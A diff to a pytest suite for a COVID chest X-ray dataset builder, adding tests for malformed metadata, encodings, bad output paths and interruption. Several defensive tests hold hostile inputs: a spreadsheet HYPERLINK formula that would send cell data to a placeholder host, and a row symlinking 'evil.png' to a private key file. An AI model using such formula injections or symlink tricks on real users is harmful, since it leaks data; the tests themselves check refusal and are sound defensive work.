@@ -10,8 +10,21 @@ import pytest
 
 import build_covid_dataset
 import sample_kaggle_dataset
-from helpers import (HEADERS, ROOT, ROWS, expected_kaggle_sample, run_main, snapshot,
-                     write_collection, write_image, write_kaggle)
+from helpers import (
+    HEADERS,
+    ROOT,
+    ROWS,
+    assert_one_line_error,
+    expected_kaggle_sample,
+    output_cases,
+    run_main,
+    snapshot,
+    terminate_here,
+    write_collection,
+    write_image,
+    write_kaggle,
+)
+
 
 def build(covid, output, *extra):
     return run_main(build_covid_dataset.main, ["--covid", covid, "--output", output, *extra])
@@ -195,17 +208,6 @@ def test_manifest_records_each_images_patient_and_merges_on_rerun(tmp_path):
     assert rows[1][3:] == ("kaggle", "CC BY 4.0", "https://doi.org/10.17632/rscbjbr9sj.2")
 
 
-def test_kaggle_patient_ids():
-    from sample_kaggle_dataset import kaggle_patient
-
-    assert kaggle_patient("x/person1102_bacteria_2957.jpeg") == "person1102"
-    assert kaggle_patient("person3_virus_16.jpeg") == "person3"
-    assert kaggle_patient("IM-0033-0001.jpeg") == "IM-0033"
-    assert kaggle_patient("IM-0033-0001-0002.jpeg") == "IM-0033"
-    assert kaggle_patient("NORMAL2-IM-1427-0001.jpeg") == "NORMAL2-IM-1427"
-    assert kaggle_patient("scan.png") == "scan"
-
-
 # ---------------------------------------------------------------------------------------------
 # --license and --per-patient
 # ---------------------------------------------------------------------------------------------
@@ -349,3 +351,162 @@ def test_manifest_holds_each_images_licence_and_source(tmp_path):
         "covid/by4.jpg": ("3", "CC BY 4.0", "https://example.org/by4"),
         "covid/by4-spaced.jpg": ("4", "cc  by 4.0", "https://example.org/sp"),
     }
+
+
+def test_spreadsheet_formulas_in_metadata_land_quoted_and_read_back_exactly(tmp_path):
+    from covid19xray.manifest import read_manifest
+
+    hyperlink = '=HYPERLINK("http://x/?"&A1,"click")'
+    covid = tmp_path / "c"
+    write_image(str(covid / "images" / "-a.jpg"), seed=1, size=(32, 32))
+    rows = [["patientid", "finding", "view", "filename", "url", "license"],
+            [hyperlink, "COVID-19", "PA", "-a.jpg", "@SUM(1+1)", "+CC BY"]]
+    with open(covid / "metadata.csv", "w", newline="") as f:
+        csv.writer(f).writerows(rows)
+    assert build(str(covid), str(tmp_path / "d" / "covid"))[0] == 0
+    with open(tmp_path / "d" / "manifest.csv", newline="") as f:
+        written = list(csv.reader(f))[1]
+    # what a spreadsheet sees: text, every cell that would run starting with '
+    assert written == ["covid/-a.jpg", "covid", "'" + hyperlink, "cohen", "'+CC BY",
+                       "'@SUM(1+1)"]
+    # what our own readers see: the values as they were
+    assert read_manifest(str(tmp_path / "d"))["covid/-a.jpg"] == {
+        "file": "covid/-a.jpg", "class": "covid", "patient_id": hyperlink, "source": "cohen",
+        "license": "+CC BY", "url": "@SUM(1+1)"}
+
+
+# ---------------------------------------------------------------------------------------------
+# Bad input: one line, nothing touched
+# ---------------------------------------------------------------------------------------------
+
+
+HEADER = "patientid,finding,view,filename"
+
+
+def covid_with_metadata(tmp_path, content):
+    covid = tmp_path / "covid-chestxray-dataset"
+    write_image(str(covid / "images" / "a.jpg"), seed=1, size=(32, 32))
+    if content is not None:
+        (covid / "metadata.csv").write_bytes(content)
+    return str(covid)
+
+
+@pytest.mark.parametrize("content, phrases", [
+    (None, ["has no metadata.csv", "point it at a checkout of Cohen's"]),
+    (b"", ["metadata.csv is empty"]),
+    (b"\r\n", ["metadata.csv is empty"]),
+    (HEADER.encode() + b"\n", ["metadata.csv has a header but no rows"]),
+    (b"patientid,view,filename\n1,PA,a.jpg\n",
+     ["has no finding column", "patientid,view,filename"]),
+    (b"patientid,finding,filename\n1,COVID-19,a.jpg\n", ["has no view column"]),
+    (b"patientid,finding,view\n1,COVID-19,PA\n", ["has no filename column"]),
+    (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", ["has no finding, view, filename column"]),
+    (HEADER.encode() + b"\n1,COVID-19,PA,gone.jpg\n2,SARS,PA,a.jpg\n",
+     ["none of the 1 matching rows has its image", "missing files: 1, refused: 0",
+      "is the checkout complete"]),
+])
+def test_broken_metadata_is_one_line_and_touches_nothing(tmp_path, content, phrases):
+    covid = covid_with_metadata(tmp_path, content)
+    output = tmp_path / "dataset" / "covid"
+    before = snapshot(covid)
+    code, out, err = run_main(build_covid_dataset.main, ["--covid", covid, "--output", str(output)])
+    assert_one_line_error(code, err, "build_covid_dataset.py", *phrases)
+    assert snapshot(covid) == before
+    assert not output.exists()  # nothing is created before the metadata is understood
+
+
+def test_a_nul_byte_in_a_filename_is_refused_not_a_crash(tmp_path):
+    covid = covid_with_metadata(tmp_path, HEADER.encode() + b"\n1,COVID-19,PA,a\0.jpg\n"
+                                b"2,COVID-19,PA,a.jpg\n")
+    code, out, err = run_main(build_covid_dataset.main,
+                              ["--covid", covid, "--output", str(tmp_path / "out")])
+    assert code == 0, err
+    assert err == "[WARNING] refusing 'a\\x00.jpg': not a file inside --covid\n"
+    assert "copied: 1" in out and "refused: 1" in out
+    assert os.listdir(tmp_path / "out") == ["a.jpg"]
+
+
+@pytest.mark.parametrize("encoding, delimiter", [
+    ("utf-16", ","),      # a spreadsheet's "Unicode text", with its byte-order mark
+    ("cp1252", ","),      # Windows' default; the notes hold a byte that is not UTF-8
+    ("utf-8-sig", ";"),   # a European spreadsheet's CSV
+    ("utf-8", "\t"),
+])
+def test_metadata_in_other_encodings_and_delimiters_still_builds(tmp_path, encoding, delimiter):
+    rows = [HEADER + ",notes", "1,COVID-19,PA,a.jpg,São Paulo", "2,SARS,PA,b.jpg,x"]
+    covid = covid_with_metadata(tmp_path, delimiter.join(rows[0].split(",")).encode())
+    write_image(os.path.join(covid, "images", "b.jpg"), seed=2, size=(32, 32))
+    text = "\r\n".join(delimiter.join(row.split(",")) for row in rows) + "\r\n"
+    with open(os.path.join(covid, "metadata.csv"), "wb") as f:
+        f.write(text.encode(encoding))
+    output = tmp_path / "out"
+    code, out, err = run_main(build_covid_dataset.main, ["--covid", covid, "--output", str(output)])
+    assert code == 0, err
+    assert os.listdir(output) == ["a.jpg"]
+    assert "rows read: 2, rows matched: 1, copied: 1" in out
+
+
+@pytest.mark.parametrize("case", ["output is a file", "output under a file",
+                                  "output is the source", "output inside the source"])
+def test_covid_builder_refuses_bad_outputs(tmp_path, case):
+    covid = write_collection(str(tmp_path / "c"), "current")
+    output, phrases = output_cases(tmp_path, covid)[case]
+    before = snapshot(str(tmp_path))
+    code, _, err = run_main(build_covid_dataset.main, ["--covid", covid, "--output", output])
+    assert_one_line_error(code, err, "build_covid_dataset.py", "--output", *phrases)
+    assert snapshot(str(tmp_path)) == before
+
+
+def test_unwritable_output_folder(tmp_path, monkeypatch):
+    # Tests may run as root, for whom chmod does not block writing: ask os.access instead.
+    covid = write_collection(str(tmp_path / "c"), "current")
+    output = tmp_path / "read-only"
+    output.mkdir()
+    real_access = os.access
+    monkeypatch.setattr(os, "access", lambda path, mode: (
+        False if os.path.abspath(path) == str(output) else real_access(path, mode)))
+    code, _, err = run_main(build_covid_dataset.main, ["--covid", covid, "--output", str(output)])
+    assert_one_line_error(code, err, "build_covid_dataset.py", f"--output '{output}' is not "
+                          "writable")
+    assert os.listdir(output) == []
+
+
+def test_a_linked_images_folder_builds_and_a_link_to_a_non_image_is_never_copied(tmp_path):
+    covid = write_collection(str(tmp_path / "c"), "current")
+    # images/ lives on "another disk"; the checkout holds a link to it
+    os.rename(os.path.join(covid, "images"), tmp_path / "big-disk")
+    os.symlink(tmp_path / "big-disk", os.path.join(covid, "images"))
+    # a crafted row: an image name that links to a private file outside the checkout
+    (tmp_path / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
+    os.symlink(tmp_path / "id_rsa", tmp_path / "big-disk" / "evil.png")
+    columns = [name.strip().lower() for name in HEADERS["current"].split(",")]
+    row = {"patientid": "99", "finding": "COVID-19", "view": "PA", "folder": "images",
+           "filename": "evil.png"}
+    with open(os.path.join(covid, "metadata.csv"), "a") as f:
+        f.write(",".join(row.get(column, "") for column in columns) + "\r\n")
+    output = tmp_path / "dataset" / "covid"
+    before = snapshot(str(tmp_path / "big-disk"), str(tmp_path / "id_rsa"))
+    code, out, err = run_main(build_covid_dataset.main, ["--covid", covid, "--output",
+                                                         str(output)])
+    assert code == 0, err
+    assert sorted(os.listdir(output)) == ["a.jpg", "d.png", "g.jpeg", "v.jpg"]
+    assert f"[WARNING] refusing {os.path.join(covid, 'images', 'evil.png')}: not an image (no " \
+           "JPEG, PNG, BMP or TIFF signature)" in err.splitlines()
+    assert out.strip().splitlines()[-1].endswith(
+        "copied: 4, already present: 0, missing files: 1, refused: 2, duplicates: 1, "
+        "conflicts: 0")  # ../outside.jpg and evil.png
+    assert "evil.png" not in (tmp_path / "dataset" / "manifest.csv").read_text()
+    assert snapshot(str(tmp_path / "big-disk"), str(tmp_path / "id_rsa")) == before
+
+
+def test_sigterm_while_copying_leaves_no_half_written_file(tmp_path, monkeypatch):
+    from covid19xray import building
+
+    monkeypatch.setattr(building, "copy_new_file", terminate_here)
+    covid = write_collection(str(tmp_path / "c"), "current")
+    code, _, err = run_main(build_covid_dataset.main, ["--covid", covid, "--output",
+                                                       str(tmp_path / "ds" / "covid")])
+    assert code == 143 and err.strip().splitlines()[-1] == (
+        "build_covid_dataset.py: terminated (SIGTERM); no output was replaced")
+    assert sorted(os.listdir(tmp_path)) == ["c", "ds", "outside.jpg"]
+    assert os.listdir(tmp_path / "ds" / "covid") == []
